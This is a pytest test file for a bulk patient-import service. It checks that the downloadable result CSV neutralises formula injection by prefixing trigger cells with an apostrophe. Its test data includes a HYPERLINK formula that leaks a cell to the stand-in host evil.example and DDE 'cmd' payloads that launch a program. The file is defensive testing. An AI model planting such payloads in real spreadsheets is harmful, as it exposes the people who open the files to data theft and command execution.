"""CSV formula injection (SPEC §7): every cell of the result file that starts with = + - @ tab or CR is
prefixed with ' so a spreadsheet shows it as text, in the header, in valid and in failed rows, whatever the
column. Checked on the file downloaded through the result URL, on S3 and on local storage."""

from __future__ import annotations

import csv
import io

import pytest
import requests

from bulkimport.models import BulkStatus
from metriport_bulk.lib.csvio import RESULT_COLUMNS

pytestmark = pytest.mark.django_db(transaction=True)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HEADER = [
    "firstName",
    "lastName",
    "dob",
    "gender",
    "addressLine1",
    "city",
    "state",
    "zip",
    "externalId",
    '=HYPERLINK("http://x")',
    "notes",
]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1 212 555 0101",  # a phone number, escaped too: the rule is about the first character only
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
]
HARMLESS = ["a=b", "'=already quoted", "Ann", "", "1 Main St"]


def _rows() -> list[list[str]]:
    rows = []
    for i, payload in enumerate(PAYLOADS):
        # Valid rows: the payload in the external id, an unknown column and the name (names are free text).
        rows.append(
            ["Ann", "Doe", "1980-01-02", "F", "1 Main St", "New York", "NY", "10001", payload, payload, payload]
        )
        rows.append(
            [
                payload,
                "Doe",
                "1980-01-02",
                "M",
                "1 Main St",
                "New York",
                "NY",
                f"1000{i}",
                f"ext-{i}",
                "x",
                HARMLESS[i % len(HARMLESS)],
            ]
        )
        # Failed rows: the payload where validation rejects it (the date, the gender, the zip).
        rows.append(["Bob", "Roe", payload, payload, "1 Main St", "New York", "NY", payload, payload, "", payload])
    return rows


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(HEADER)
    writer.writerows(rows)
    return out.getvalue().encode()


def _expected(cell: str) -> str:
    # Apostrophes of the customer's own before a trigger count: `'=x` is written `''=x`, so it reads back exact.
    return "'" + cell if cell.lstrip("'").startswith(TRIGGERS) else cell


@pytest.fixture(params=["s3", "local"])
def storage_api(request):
    return request.getfixturevalue("customer_api" if request.param == "s3" else "local_api")


def test_result_file_escapes_every_formula_cell(storage_api):
    rows = _rows()
    final = storage_api.run(_csv(rows))
    assert final["status"] == BulkStatus.COMPLETED, final
    assert final["successful"] > 0 and final["failed"] > 0  # both kinds of row are in the file

    response = requests.get(final["result"], timeout=30)
    assert response.status_code == 200
    result = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
    header, lines = result[0], result[1:]
    assert header == [_expected(cell) for cell in HEADER] + list(RESULT_COLUMNS)
    assert header[HEADER.index('=HYPERLINK("http://x")')] == '\'=HYPERLINK("http://x")'
    assert len(lines) == len(rows)
    for raw, line in zip(rows, lines, strict=True):
        assert line[: len(raw)] == [_expected(cell) for cell in raw], (raw, line)
    # No cell anywhere, result columns included, can start a formula.
    offenders = [cell for line in result for cell in line if cell.startswith(TRIGGERS)]
    assert offenders == []
    # The rows the validator refused say why, without echoing the payload back unescaped.
    failed = [line for line in lines if line[-9] == "failed"]
    assert failed and all(line[-8] for line in failed)
